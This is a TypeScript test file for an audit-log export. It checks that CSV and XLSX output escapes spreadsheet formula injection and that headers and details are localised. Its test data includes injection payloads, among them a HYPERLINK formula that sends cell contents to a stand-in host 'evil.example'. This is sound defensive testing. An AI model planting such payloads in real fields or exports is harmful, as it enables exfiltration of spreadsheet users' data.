import ExcelJS from 'exceljs';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { ADMIN, makeTestCore, type TestCore } from '../helpers/test-core';

/**
 * CSV formula injection: a spreadsheet runs a cell that starts with = + - @
 * (and tab or CR, which some of them skip first) as a formula. Text that
 * reaches the start of an exported cell — an account's name, a login typed at
 * the sign-in screen by anyone — must come back as the same text behind a
 * leading apostrophe in CSV, and as a text cell (never a formula) in XLSX.
 */

const clock = new Date('2026-11-27T09:00:00');
let core: TestCore;
beforeEach(async () => {
  core = await makeTestCore({ now: () => clock });
});
afterEach(() => core.cleanup());

/** Account names an administrator can type; each signs in once, so it is the actor of an entry. */
const NAMES = ['=HYPERLINK("http://evil.example/?d="&A1,"点我")', '+1+1', '@SUM(1+1)', '=1+1,"x"'];
/** Typed at the sign-in screen by someone without an account: logged as the actor of the failure. */
const FAILED_LOGIN = '-2-3';
/**
 * Names are trimmed and refuse control characters at the contract, so these
 * can only come from an older database; the export must still be safe.
 */
const CONTROL_LEADS = ['\t=1+1', '\r=1+1'];

async function seedHostileActors(): Promise<string[]> {
  for (const [i, name] of NAMES.entries()) {
    await core.call('users.create', { login: `hostile${i}`, name, roles: ['receptionist'], password: 'Hostile-pass-1' });
  }
  for (const i of NAMES.keys()) {
    await core.call('session.signOut', {});
    await core.call('session.signIn', { login: `hostile${i}`, password: 'Hostile-pass-1' });
  }
  await core.call('session.signOut', {});
  expect(await core.dispatch('session.signIn', { login: FAILED_LOGIN, password: 'Wrong-pass-1' })).toMatchObject({ ok: false });
  await core.call('session.signIn', { login: ADMIN.login, password: ADMIN.password });
  // Actors that begin with a control character, written as they are through the write path.
  const ctx = core.context(core.runtime.session.current()!);
  for (const actor of CONTROL_LEADS) ctx.writeAs(actor, () => null, () => ({ action: 'legacy.entry', entity: 'user', entityId: null, detail: {} }));
  return [...NAMES, FAILED_LOGIN, ...CONTROL_LEADS];
}

/** The `actor` column of every exported data row, read back by ExcelJS's own CSV reader (RFC 4180 quoting). */
async function csvActors(file: string): Promise<unknown[]> {
  const book = new ExcelJS.Workbook();
  // The file starts with a BOM for Excel; the reader would keep it in the first header.
  const sheet = await book.csv.read(Readable.from([readFileSync(file, 'utf8').replace(/^\uFEFF/, '')]));
  expect(sheet.getRow(1).values).toEqual([undefined, '序号', '时间', '操作人', '操作', '对象', '对象编号', '对象名称', '详情']);
  const actors: unknown[] = [];
  sheet.eachRow((row, n) => n > 1 && actors.push(row.getCell(3).value));
  return actors;
}

describe('audit export and formula injection', () => {
  it('CSV: every cell that starts with = + - @ tab or CR gets one leading apostrophe, the rest of the text unchanged', async () => {
    const hostile = await seedHostileActors();
    const { fileName, rows } = await core.call<{ fileName: string; rows: number }>('audit.export', { format: 'csv' });
    const actors = await csvActors(join(core.dataDir, 'exports', fileName));
    expect(actors).toHaveLength(rows);
    for (const value of hostile) expect(actors, JSON.stringify(value)).toContain(`'${value}`);
    // Nothing reaches the file starting with a character a spreadsheet would evaluate.
    const leads = actors.filter((a): a is string => typeof a === 'string' && /^[=+\-@\t\r]/.test(a));
    expect(leads).toEqual([]);
    // Ordinary names are left alone.
    expect(actors).toContain(ADMIN.name);
  });

  it('XLSX: the same values are text cells holding exactly what was typed, never formulas', async () => {
    const hostile = await seedHostileActors();
    const { fileName, rows } = await core.call<{ fileName: string; rows: number }>('audit.export', { format: 'xlsx' });
    const book = new ExcelJS.Workbook();
    await book.xlsx.readFile(join(core.dataDir, 'exports', fileName));
    const sheet = book.getWorksheet('审计日志')!;
    expect(sheet.rowCount).toBe(rows + 1);
    const cells: { type: ExcelJS.ValueType; value: unknown; formula: string | undefined }[] = [];
    sheet.eachRow((row, n) => {
      if (n === 1) return;
      row.eachCell({ includeEmpty: false }, (cell) => cells.push({ type: cell.type, value: cell.value, formula: cell.formula }));
    });
    expect(cells.filter((c) => c.type === ExcelJS.ValueType.Formula || c.formula !== undefined)).toEqual([]);
    const actors: { type: ExcelJS.ValueType; value: unknown }[] = [];
    sheet.eachRow((row, n) => n > 1 && actors.push({ type: row.getCell(3).type, value: row.getCell(3).value }));
    // XML turns a bare CR into LF when read (its end-of-line rule); the cell is text either way.
    for (const value of hostile) expect(actors, JSON.stringify(value)).toContainEqual({ type: ExcelJS.ValueType.String, value: value.replace(/\r/g, '\n') });
  });
});

/** The CSV's rows as arrays of cell text, read back by ExcelJS's own CSV reader. */
async function csvRows(file: string): Promise<string[][]> {
  const book = new ExcelJS.Workbook();
  const sheet = await book.csv.read(Readable.from([readFileSync(file, 'utf8').replace(/^\uFEFF/, '')]));
  const rows: string[][] = [];
  sheet.eachRow((row) => rows.push((row.values as unknown[]).slice(1).map((v) => (v instanceof Date ? v.toISOString() : String(v ?? '')))));
  return rows;
}

describe('audit export in the reader\'s language', () => {
  /** Something with a boolean, a coded value and a list in its detail: a new user with two roles, then a badge print. */
  async function seedEntries() {
    await core.call('users.create', { login: 'wang', name: '王芳', roles: ['receptionist', 'coordinator'], password: 'Wang-pass-1' });
    await core.call('settings.update', { autoPrintBadge: false, idleLockMinutes: 15 });
  }

  it('zh-CN desk: Chinese headers, action names, labelled details and local times, no raw codes', async () => {
    await seedEntries();
    const { fileName } = await core.call<{ fileName: string }>('audit.export', { format: 'csv' });
    const [header, ...rows] = await csvRows(join(core.dataDir, 'exports', fileName));
    expect(header).toEqual(['序号', '时间', '操作人', '操作', '对象', '对象编号', '对象名称', '详情']);
    const created = rows.find((r) => r[3] === '新建用户')!;
    expect(created, JSON.stringify(rows)).toBeDefined();
    expect(created[4]).toBe('用户');
    expect(created[5]).toMatch(/^[0-9a-f-]{36}$/);
    // The record by its name as it is now, in its own column; the detail leaves out what that column says.
    expect(created[6]).toBe('王芳 · wang');
    expect(created[7]).toBe('角色：前台接待、接待协调');
    // The clock's local 09:00, whatever the machine's zone: never the UTC instant.
    expect(created[1]).toBe('2026-11-27 09:00:00');
    const settings = rows.find((r) => r[3] === '修改设置')!;
    expect(settings[6] ?? '', 'settings have no name of their own').toBe('');
    expect(settings[7]).toBe('自动打印胸卡：是 → 否；自动锁定（分钟）：10 → 15');
    for (const row of rows) {
      expect(row[3], 'an action code').not.toMatch(/^[a-z]+\.[a-zA-Z]+$/);
      expect(row[7], 'JSON or a raw key').not.toMatch(/[{}"]|\b[a-z]+[A-Z][a-zA-Z]*\b/);
    }
  });

  it('en desk: English headers and words, the same local time', async () => {
    await core.call('session.setLocale', { locale: 'en' });
    await seedEntries();
    const { fileName } = await core.call<{ fileName: string }>('audit.export', { format: 'xlsx' });
    const book = new ExcelJS.Workbook();
    await book.xlsx.readFile(join(core.dataDir, 'exports', fileName));
    const sheet = book.getWorksheet('Audit log')!;
    expect(sheet.getRow(1).values).toEqual([undefined, 'No.', 'Time', 'Actor', 'Action', 'Record', 'Record ID', 'Record name', 'Detail']);
    const rows: unknown[][] = [];
    sheet.eachRow((row, n) => n > 1 && rows.push((row.values as unknown[]).slice(1)));
    const created = rows.find((r) => r[3] === 'Created a user')!;
    expect(created[1]).toBe('2026-11-27 09:00:00');
    expect(created[6]).toBe('王芳 · wang');
    expect(created[7]).toBe('Roles: Receptionist, Coordinator');
    expect(rows.find((r) => r[3] === 'Switched language')?.[7]).toBe('Language: English');
    expect(rows.find((r) => r[3] === 'Changed settings')?.[7]).toBe('Auto-print badge: Yes → No; Idle lock (minutes): 10 → 15');
  });
});
